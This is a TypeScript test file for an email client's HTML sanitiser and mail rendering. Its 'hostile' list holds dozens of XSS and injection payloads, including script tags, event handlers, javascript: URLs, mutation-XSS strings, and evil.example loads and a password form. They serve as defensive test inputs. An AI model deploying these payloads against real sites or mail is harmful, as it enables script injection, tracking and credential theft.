import { describe, expect, it } from 'vitest'
import { htmlText } from '#shared/domain/inbox/html-text.ts'
import { mailPage, mostPictures } from '#shared/domain/inbox/mail-page.ts'
import { sanitiseHtml } from '#shared/domain/inbox/sanitise-html.ts'

/** Mails that try to run something, load something or break out of what they are put in. */
const hostile: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror\u00a0=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="sendoff://exports/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://x.example/&quot; onmouseover=&quot;alert(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>parent.sendoff.call()</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="x">',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/p.png)}</style>',
  '<div style="background:url(https://evil.example/p.png)">x</div>',
  '<div style="position:fixed;inset:0">x</div>',
  '<table background="https://evil.example/p.png"><tr><td background=//evil.example/q.png>x</td></tr></table>',
  '<img srcset="https://evil.example/a.png 1x" src="cid:1">',
  '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4" autoplay></video>',
  '<picture><source srcset="https://evil.example/p.png"><img src="https://evil.example/q.png"></picture>',
  '<input type="image" src="https://evil.example/p.png">',
  '<p title="</p><script>alert(1)</script>">x</p>',
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script>',
  '<![CDATA[><script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<textarea></textarea><script>alert(1)</script>',
  '<textarea><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<plaintext><script>alert(1)</script>',
  '<a href="https://ok.example" target=_blank ping="https://evil.example" onclick=alert(1)>x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4=">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src="https://evil.example/p.png" data-image="x" data-link="1">',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  `${'<div>'.repeat(5_000)}<script>alert(1)</script>`,
  `${'<'.repeat(20_000)}script>alert(1)</script>`,
  '<img src=x onerror=alert(1)',
  '<a href="https://x.example',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<p onclick="alert(1)" ONMOUSEOVER=alert(1) oNfOcUs=alert(1) autofocus tabindex=1>x</p>',
]

const tags =
  /^<(?:\/?(?:a|abbr|b|big|blockquote|caption|center|cite|code|dd|del|div|dl|dt|em|font|h[1-6]|i|ins|kbd|li|ol|p|pre|q|s|small|span|strike|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|tt|u|ul)|br|hr|img)(?: (?:href|title|alt|align|valign|width|height|colspan|rowspan|start|dir|cellpadding|cellspacing|src|data-image|data-link)="[^"<>]*")*>$/

describe('a mail shown', () => {
  it.each(hostile)('holds nothing but what is on the list: %s', (html) => {
    const { html: safe } = sanitiseHtml(html)
    for (const [tag] of safe.matchAll(/<[^>]*>?/g)) expect(tag).toMatch(tags)
    for (const [, value = ''] of safe.matchAll(/ src="([^"]*)"/g))
      expect(value).toMatch(/^data:image\/(?:png|jpeg|gif|webp);/)
    for (const [, value = ''] of safe.matchAll(/ href="([^"]*)"/g))
      expect(value).toMatch(/^(?:https?:\/\/|mailto:|tel:)/i)
    // What comes out is taken for what it is the second time as well.
    expect(sanitiseHtml(safe).html.replaceAll(/ data-(?:link|image)="[^"]*"/g, '')).toBe(
      safe.replaceAll(/ data-(?:link|image)="[^"]*"/g, ''),
    )
  })

  it('keeps words, links and tables, and names images instead of fetching them', () => {
    const { html, images, links, suspicious } = sanitiseHtml(
      '<div style="color:red"><p>Hällo &amp; <b>hi</b> &euro;5 <a href="https://a.example/?x=1&amp;y=2">link</a></p><img src="https://t.example/o.gif" width="1"></div>',
    )
    expect(html).toBe(
      '<div><p>Hällo &amp; <b>hi</b> €5 <a href="https://a.example/?x=1&amp;y=2" data-link="0">link</a></p><img width="1" data-image="https://t.example/o.gif"></div>',
    )
    expect({ images, links, suspicious }).toEqual({
      images: ['https://t.example/o.gif'],
      links: ['https://a.example/?x=1&y=2'],
      suspicious: false,
    })
  })

  it.each([
    '<script>x</script>',
    '<form></form>',
    '<p onclick=x>',
    '<a href="javascript:x">y</a>',
    '<iframe src=x></iframe>',
  ])('is called suspicious with %s', (html) => expect(sanitiseHtml(html).suspicious).toBe(true))
})

describe('pictures of a mail', () => {
  const look = { theme: 'light', style: 'app://bundle/mail.css' }
  const picture = (bytes: number) => `data:image/png;base64,${'A'.repeat(bytes)}`

  it('are in the page wherever they stand', () => {
    const { html, images } = sanitiseHtml(
      '<img src="https://a.example/$&?x=1&amp;y"><img src="https://a.example/$&?x=1&amp;y" alt="b">',
    )
    const page = mailPage(html, { [images[0] ?? '']: picture(8) }, look)
    expect(page).toContain(`<body><img src="${picture(8)}"><img alt="b" src="${picture(8)}"></body>`)
  })

  it('named again and again make no page that cannot be drawn', () => {
    const { html, images } = sanitiseHtml('<img src="https://a.example/b.png">'.repeat(19_000))
    expect(html.match(/data-image/g)?.length).toBe(200)
    const page = mailPage(html, { [images[0] ?? '']: picture(1_000_000) }, look)
    expect(page.length).toBeLessThan(mostPictures + 100_000)
    expect(page).toContain('src="data:image/png')
  })

  it('that are in the mail itself are as few', () => {
    const { html } = sanitiseHtml(`<img alt="x" src="${picture(100)}">`.repeat(5_000))
    expect(html.match(/ src="/g)?.length).toBe(200)
    expect(html.match(/<img /g)?.length).toBe(5_000)
  })
})

it('reads the words of a formatted mail with its paragraphs and quotations', () => {
  expect(
    htmlText(
      '<style>p{}</style><p>Guten Tag,</p><p>ja&nbsp;bitte<br>Dienstag.</p><ul><li>eins<li>zwei</ul><blockquote>alt<br>alt2</blockquote><script>x</script>',
    ),
  ).toBe('Guten Tag,\n\nja\u00a0bitte\nDienstag.\n\n- eins\n- zwei\n\n> alt\n> alt2')
})
